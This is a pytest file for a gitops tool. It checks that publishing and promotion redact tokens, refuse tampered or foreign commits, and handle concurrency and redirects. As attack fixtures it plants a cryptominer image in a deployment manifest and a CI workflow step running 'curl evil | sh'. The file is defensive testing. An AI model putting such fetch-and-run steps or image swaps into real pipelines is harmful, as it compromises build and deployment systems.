"""Attacks on publish and promotion (issue 17 items 2-5 and the redirected POST), each reproduced
against real git repositories, a real bare remote and tests/github_fake.py."""
from __future__ import annotations

import json
import shutil
import subprocess
import sys

import pytest

from gitops.errors import GitopsError
from gitops.promote.envfile import EnvFile
from gitops.promote.promote import promote
from gitops.promote.publish import publish
from gitops.ops.urls import redact, redact_text

from .conftest import REPO
from .test_promote_support import DIGEST_A, DIGEST_B, REMOTE_URL, cli_env, git, gitops, opts, setup  # noqa: F401 (setup: fixture)

TOKEN = "ghs_" + "S3cr3t" * 6
ATTACKER = "docker.io/attacker/miner:latest"


def bump(setup, service: str, tag: str, digest: str, push: bool = True) -> None:
    path = setup.root / "environments" / "dev.yaml"
    env = EnvFile.read(path)
    env.set_values(service, {"image.tag": tag, "image.digest": digest})
    path.write_text(env.text)
    setup.commit_all(f"dev: {service} {tag}")
    if push:
        setup.git("push", "--quiet", "origin", "main")


def envrepo(tmp_path):
    repo = tmp_path / "env-repo.git"
    git(tmp_path, "init", "--quiet", "--bare", "-b", "main", str(repo))
    return repo


def tamper_prod_image(setup) -> None:
    path = setup.root / "dist/prod/shop-api/deployment-shop-api.yaml"
    path.write_text(path.read_text().replace("image: ghcr.io/", f"image: {ATTACKER} # was ghcr.io/", 1))
    setup.commit_all("prod: faster image")


# --- item 3: credentials in URLs -----------------------------------------------------------------
@pytest.mark.parametrize("url,shown", [
    (f"https://x-access-token:{TOKEN}@github.com/meetinity/gitops.git", "https://github.com/meetinity/gitops.git"),
    (f"https://{TOKEN}@github.com/o/r", "https://github.com/o/r"),
    ("https://github.com/o/r.git", "https://github.com/o/r.git"),
    ("git@github.com:o/r.git", "git@github.com:o/r.git"),
    (f"ssh://git:{TOKEN}@host:22/o/r", "ssh://host:22/o/r"),
    (f"http://u:{TOKEN}@127.0.0.1:8/x?next=a@b", "http://127.0.0.1:8/x?next=a@b"),
])
def test_redact_strips_userinfo(url, shown):
    assert redact(url) == shown
    assert redact_text(f"fatal: unable to access '{url}/': 403") == f"fatal: unable to access '{shown}/': 403"


def test_token_in_the_origin_url_never_reaches_the_trailer(setup, tmp_path):
    token_url = REMOTE_URL.replace("https://", f"https://x-access-token:{TOKEN}@")
    setup.git("remote", "set-url", "origin", token_url)
    setup.git("config", f"url.{setup.bare}.insteadOf", token_url)
    repo = envrepo(tmp_path)
    result = publish(setup.root, str(repo), ["dev"])
    assert result["changed"]
    log = git(repo, "log", "--format=%B", "main")
    assert f"Source-Repository: {REMOTE_URL}" in log and TOKEN not in log


def test_token_in_urls_never_reaches_error_messages(setup, fake_github, tmp_path):
    unreachable = f"https://x-access-token:{TOKEN}@127.0.0.1:9/meetinity/env.git"
    proc = gitops(setup, fake_github, "publish", "--repo", unreachable, "--env", "dev", expect=1)
    assert "127.0.0.1:9" in proc.stderr
    assert TOKEN not in proc.stderr + proc.stdout

    # promote: fetching from a remote URL with a token that cannot be reached
    bump(setup, "shop-api", "v1.3.0", DIGEST_A)
    setup.git("remote", "set-url", "origin", unreachable)
    with pytest.raises(GitopsError) as exc:
        promote(setup.root, "dev", "staging", options=opts(fake_github))
    assert "127.0.0.1:9" in str(exc.value) and TOKEN not in str(exc.value)


# --- item 2: publish only what the default branch holds ------------------------------------------
def test_unpushed_tampered_commit_is_not_published(setup, fake_github, tmp_path):
    repo = envrepo(tmp_path)
    tamper_prod_image(setup)  # local only
    proc = gitops(setup, fake_github, "publish", "--repo", str(repo), "--env", "prod", expect=0)
    assert "publishing origin/main" in proc.stderr
    published = git(repo, "show", "main:prod/shop-api/deployment-shop-api.yaml")
    assert ATTACKER not in published and "ghcr.io/" in published
    assert git(repo, "log", "-1", "--format=%(trailers:key=Source-Commit,valueonly)", "main").strip() == \
        setup.git("rev-parse", "origin/main")


def test_pushed_hand_edit_is_refused_naming_the_commit(setup, fake_github, tmp_path):
    repo = envrepo(tmp_path)
    tamper_prod_image(setup)
    setup.git("push", "--quiet", "origin", "main")
    sha = setup.git("rev-parse", "HEAD")[:12]
    proc = gitops(setup, fake_github, "publish", "--repo", str(repo), "--env", "prod", expect=1)
    assert f"origin/main ({sha}) is not publishable" in proc.stderr
    assert "changed  dist/prod/shop-api/deployment-shop-api.yaml" in proc.stderr
    assert git(repo, "for-each-ref", "refs/heads/") == ""  # nothing pushed


def test_default_branch_that_fails_validation_is_refused(setup, tmp_path):
    from gitops.promote.gates import Gate
    repo = envrepo(tmp_path)
    with pytest.raises(GitopsError) as exc:
        publish(setup.root, str(repo), ["dev"],
                validator=lambda root, env: Gate("validation", "failed", "2 error(s)", "dist/dev/x.yaml:3 POL008 latest"))
    assert "is not publishable: 2 error(s)" in str(exc.value) and "POL008" in str(exc.value)
    assert git(repo, "for-each-ref", "refs/heads/") == ""


# --- item 4: supersede only contained promotions; concurrent runs -------------------------------
def test_promoting_one_service_leaves_another_services_pr_open(setup, fake_github):
    bump(setup, "shop-api", "v1.3.0", DIGEST_A)
    bump(setup, "stock-service", "v1.0.0", DIGEST_B)
    first = promote(setup.root, "dev", "staging", ["stock-service"], options=opts(fake_github))
    second = promote(setup.root, "dev", "staging", ["shop-api"], options=opts(fake_github))
    assert second.superseded == [] and "closed superseded" not in second.message
    assert sorted(p["number"] for p in fake_github.open_pulls()) == [first.pull["number"], second.pull["number"]]
    # A later promotion of both contains both: it closes both older ones.
    third = promote(setup.root, "dev", "staging", options=opts(fake_github))
    assert sorted(third.superseded) == [first.pull["number"], second.pull["number"]]
    assert [p["number"] for p in fake_github.open_pulls()] == [third.pull["number"]]


def test_two_concurrent_promotions_of_different_services_both_stay_open(setup, fake_github, tmp_path):
    bump(setup, "shop-api", "v1.3.0", DIGEST_A)
    bump(setup, "stock-service", "v1.0.0", DIGEST_B)
    other = tmp_path / "other-clone"
    shutil.copytree(setup.root, other, symlinks=True)  # a second person's checkout of the same remote
    env = cli_env(fake_github)
    runs = [subprocess.Popen([sys.executable, "-m", "gitops", "--root", str(root), "promote", "--to", "staging",
                              "--service", service, "--format", "json"], cwd=REPO, env=env, text=True,
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE)
            for root, service in ((setup.root, "shop-api"), (other, "stock-service"))]
    outs = [r.communicate(timeout=300) for r in runs]
    assert [r.returncode for r in runs] == [0, 0], outs
    results = [json.loads(out) for out, _ in outs]
    assert all(r["superseded"] == [] for r in results)
    assert sorted(p["head"]["ref"] for p in fake_github.open_pulls()) == sorted(r["branch"] for r in results)
    assert len(fake_github.open_pulls()) == 2


def test_pr_closed_by_someone_else_meanwhile_is_reported(setup, fake_github, monkeypatch):
    bump(setup, "shop-api", "v1.3.0", DIGEST_A)
    import gitops.promote.github as github
    original = github.GitHub.add_labels

    def close_then_label(self, number, labels):
        fake_github.pulls[number]["state"] = "closed"  # a concurrent run or a person closes it right now
        return original(self, number, labels)
    monkeypatch.setattr(github.GitHub, "add_labels", close_then_label)
    with pytest.raises(GitopsError) as exc:
        promote(setup.root, "dev", "staging", options=opts(fake_github))
    assert "is closed after this run updated it" in str(exc.value)


# --- item 5: an existing branch with foreign commits ---------------------------------------------
def _plan_branch(setup, fake_github) -> str:
    return promote(setup.root, "dev", "staging", options=opts(fake_github, dry_run=True)).plan.branch


def test_prepared_branch_with_a_workflow_change_is_refused(setup, fake_github):
    bump(setup, "shop-api", "v1.3.0", DIGEST_A)
    branch = _plan_branch(setup, fake_github)
    setup.git("checkout", "--quiet", "-b", "attacker")
    wf = setup.root / ".github/workflows/ci.yml"
    wf.parent.mkdir(parents=True, exist_ok=True)
    wf.write_text("on: push\njobs: {x: {runs-on: ubuntu-24.04, steps: [{run: curl evil | sh}]}}\n")
    sha = setup.commit_all(f"promote(staging): shop-api\n\nPromotion-Id: {branch.rsplit('/', 1)[1]}")
    setup.git("push", "--quiet", "origin", f"attacker:refs/heads/{branch}")
    setup.git("checkout", "--quiet", "main")
    with pytest.raises(GitopsError) as exc:
        promote(setup.root, "dev", "staging", options=opts(fake_github))
    assert f"holds commit {sha[:12]}" in str(exc.value) and ".github/workflows/ci.yml" in str(exc.value)
    assert not fake_github.pulls

    proc = gitops(setup, fake_github, "promote", "--to", "staging", expect=1)
    assert sha[:12] in proc.stderr and "Traceback" not in proc.stderr


def test_prepared_branch_without_the_tools_trailer_or_with_other_versions_is_refused(setup, fake_github):
    bump(setup, "shop-api", "v1.3.0", DIGEST_A)
    branch = _plan_branch(setup, fake_github)
    setup.git("checkout", "--quiet", "-b", "attacker")
    path = setup.root / "environments/staging.yaml"
    env = EnvFile.read(path)
    env.set_values("stock-service", {"image.tag": "v6.6.6", "image.digest": DIGEST_B})
    path.write_text(env.text)
    sha = setup.commit_all("staging tweak")
    setup.git("push", "--quiet", "origin", f"attacker:refs/heads/{branch}")
    with pytest.raises(GitopsError) as exc:
        promote_from_main(setup, fake_github)
    assert f"holds commit {sha[:12]}" in str(exc.value) and "no 'Promotion-Id:" in str(exc.value)

    # The right trailer, but an environment file this promotion would not write.
    setup.git("commit", "--quiet", "--amend", "-m", f"x\n\nPromotion-Id: {branch.rsplit('/', 1)[1]}")
    setup.git("push", "--quiet", "--force", "origin", f"attacker:refs/heads/{branch}")
    with pytest.raises(GitopsError) as exc:
        promote_from_main(setup, fake_github)
    assert "environments/staging.yaml differs from what this promotion writes" in str(exc.value)
    assert not fake_github.pulls


def promote_from_main(setup, fake_github):
    setup.git("checkout", "--quiet", "main")
    try:
        return promote(setup.root, "dev", "staging", options=opts(fake_github))
    finally:
        setup.git("checkout", "--quiet", "attacker")


def test_re_run_on_the_tools_own_branch_is_still_adopted(setup, fake_github):
    bump(setup, "shop-api", "v1.3.0", DIGEST_A)
    first = promote(setup.root, "dev", "staging", options=opts(fake_github))
    setup.git("branch", "-D", first.plan.branch)  # another machine: only the remote branch exists
    again = promote(setup.root, "dev", "staging", options=opts(fake_github))
    assert again.status == "updated" and again.pull["number"] == first.pull["number"]


# --- Low: a redirect turning the pull request POST into a GET -----------------------------------
def test_redirected_pull_request_post_exits_1_with_a_message(setup, fake_github):
    bump(setup, "shop-api", "v1.3.0", DIGEST_A)
    fake_github.answer(302, {"message": "Found"}, {"Location": f"{fake_github.url}/repos/meetinity/gitops/pulls"},
                method="POST", path=r"/pulls$")
    proc = gitops(setup, fake_github, "promote", "--to", "staging", expect=1)
    assert "with a redirect (HTTP 302)" in proc.stderr and "is pushed; re-run" in proc.stderr
    assert "Traceback" not in proc.stderr and "TypeError" not in proc.stderr
